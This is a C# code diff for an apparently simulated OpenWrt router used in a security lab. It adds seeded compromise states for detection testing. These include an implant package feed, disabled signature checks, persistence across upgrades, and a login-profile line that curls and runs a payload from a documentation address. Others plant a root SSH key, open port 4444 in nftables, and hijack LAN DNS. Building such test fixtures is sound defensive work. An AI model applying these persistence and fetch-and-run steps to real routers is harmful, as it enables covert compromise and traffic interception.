@@ -1,3 +1,4 @@
+using System.Text;
 using System.Text.Json.Nodes;
 
 namespace FlaxGuard.Lab.Twins.OpenWrt;
@@ -69,6 +70,59 @@ public sealed partial class OpenWrtTwin
                 s.AddOverlay("/etc/init.d/sysupd", new("file", 402));
                 s.AddOverlay("/etc/rc.d/S99sysupd", new("symlink", 16, "../init.d/sysupd"));
                 s.InitScripts.Add(new InitScript("sysupd", 99, null, true, true));
+                return true;
+            case TwinChanges.FeedAdded:
+                // The implant's own feed, so "opkg update && opkg install" fetches its packages.
+                s.Files[OpenWrtTwinState.CustomFeedsPath] += "src/gz sysmon http://203.0.113.9/openwrt/aarch64_cortex-a53\n";
+                s.AddOverlay(OpenWrtTwinState.CustomFeedsPath, new("file", s.Files[OpenWrtTwinState.CustomFeedsPath].Length));
+                return true;
+            case TwinChanges.FeedUnsigned:
+                s.Files[OpenWrtTwinState.OpkgConfPath] = s.Files[OpenWrtTwinState.OpkgConfPath].Replace("option check_signature\n", "");
+                s.AddOverlay(OpenWrtTwinState.OpkgConfPath, new("file", s.Files[OpenWrtTwinState.OpkgConfPath].Length));
+                return true;
+            case TwinChanges.KeepAcrossUpgrade:
+                s.Files[OpenWrtTwinState.SysupgradeConfPath] += "/usr/sbin/.sysmond\n/etc/init.d/sysmond\n";
+                s.AddOverlay(OpenWrtTwinState.SysupgradeConfPath, new("file", s.Files[OpenWrtTwinState.SysupgradeConfPath].Length));
+                s.RomEntries[OpenWrtTwinState.KeepDirectory + "/sysmond"] = new("file", 40);
+                return true;
+            case TwinChanges.ProfileFetch:
+                // Runs at every login: refetches the implant if the owner deleted it.
+                s.Files[OpenWrtTwinState.ProfilePath] += "(cd /tmp; [ -x .s ] || curl -fsk https://198.51.100.23/s -o .s; chmod +x .s; ./.s) >/dev/null 2>&1 &\n";
+                s.AddOverlay(OpenWrtTwinState.ProfilePath, new("file", s.Files[OpenWrtTwinState.ProfilePath].Length));
+                return true;
+            case TwinChanges.RootSshKey:
+                s.Files[OpenWrtTwinState.RootAuthorizedKeysPath] = OpenWrtTwinState.SecondIntruderKey + "\n";
+                return true;
+            case TwinChanges.WebInterpreter:
+                s.Configs["uhttpd"].First(x => x.Name == "main").List("interpreter", ".sh=/bin/sh");
+                return true;
+            case TwinChanges.SshPasswordOn:
+                s.Configs["dropbear"].First(x => x.Type == "dropbear").Set("PasswordAuth", "on").Set("RootPasswordAuth", "on");
+                return true;
+            case TwinChanges.StaticRoute:
+                // Documentation addresses (RFC 5737): a bank's network sent through a LAN host that reads it.
+                s.Configs["network"].Add(new UciSectionState(null, "route").Set("interface", "lan").Set("target", "198.51.100.0")
+                    .Set("netmask", "255.255.255.0").Set("gateway", "192.168.1.66"));
+                return true;
+            case TwinChanges.NftAccept:
+                // "nft insert rule inet fw4 input iifname wan tcp dport 4444 counter accept": no fw4 comment, not in uci.
+                s.ExtraRules.Add(new("inet", "fw4", "input",
+                    "[{\"match\":{\"op\":\"==\",\"left\":{\"meta\":{\"key\":\"iifname\"}},\"right\":\"wan\"}}," +
+                    "{\"match\":{\"op\":\"==\",\"left\":{\"payload\":{\"protocol\":\"tcp\",\"field\":\"dport\"}},\"right\":4444}},{\"accept\":null}]", null, true));
+                return true;
+            case TwinChanges.NftTable:
+                // A table of its own that sends the LAN's DNS to the attacker's resolver (documentation address).
+                s.ExtraTables.Add(("ip", "sysmon"));
+                s.ExtraChains.Add(new("ip", "sysmon", "pre", "nat", "prerouting", -110, "accept"));
+                s.ExtraRules.Add(new("ip", "sysmon", "pre",
+                    "[{\"match\":{\"op\":\"==\",\"left\":{\"meta\":{\"key\":\"iifname\"}},\"right\":\"br-lan\"}}," +
+                    "{\"match\":{\"op\":\"==\",\"left\":{\"payload\":{\"protocol\":\"udp\",\"field\":\"dport\"}},\"right\":53}}," +
+                    "{\"dnat\":{\"addr\":\"203.0.113.53\"}}]", null, true));
+                return true;
+            case TwinChanges.FirewallReload:
+                // "fw4 reload": every object gets a new handle, every counter starts again.
+                s.NftHandleBase += 1_000;
+                s.NftPackets = 3;
                 return true;
             case TwinChanges.ProcessPids:
                 ShiftPids(s, 97);
@@ -160,7 +214,22 @@ public sealed partial class OpenWrtTwin
         }
         else
         {
-            return (4, null);
+            // The rest of the file system: the files the twin holds and the image's listed-only entries under this folder.
+            var children = new List<(string Name, OverlayEntry Entry)>();
+            var files = _state.Files.Select(f => new KeyValuePair<string, OverlayEntry>(f.Key, new OverlayEntry("file", Encoding.UTF8.GetByteCount(f.Value))));
+            foreach (var (p, entry) in files.Concat(_state.RomEntries))
+            {
+                if (p == path) return (9, null); // opendir of a file: ENOTDIR, UNKNOWN_ERROR
+                if (!p.StartsWith(path + "/", StringComparison.Ordinal)) continue;
+                var rest = p[(path.Length + 1)..];
+                var slash = rest.IndexOf('/');
+                var name = slash < 0 ? rest : rest[..slash];
+                if (children.Any(c => c.Name == name)) continue;
+                children.Add((name, slash < 0 ? entry : new OverlayEntry("directory", 4096)));
+            }
+            if (children.Count == 0) return (4, null);
+            if (_state.ListingShuffled || _state.Reordered) children.Reverse();
+            foreach (var (name, entry) in children) entries.Add(Entry(name, entry));
         }
         return (0, new JsonObject { ["entries"] = entries });
     }
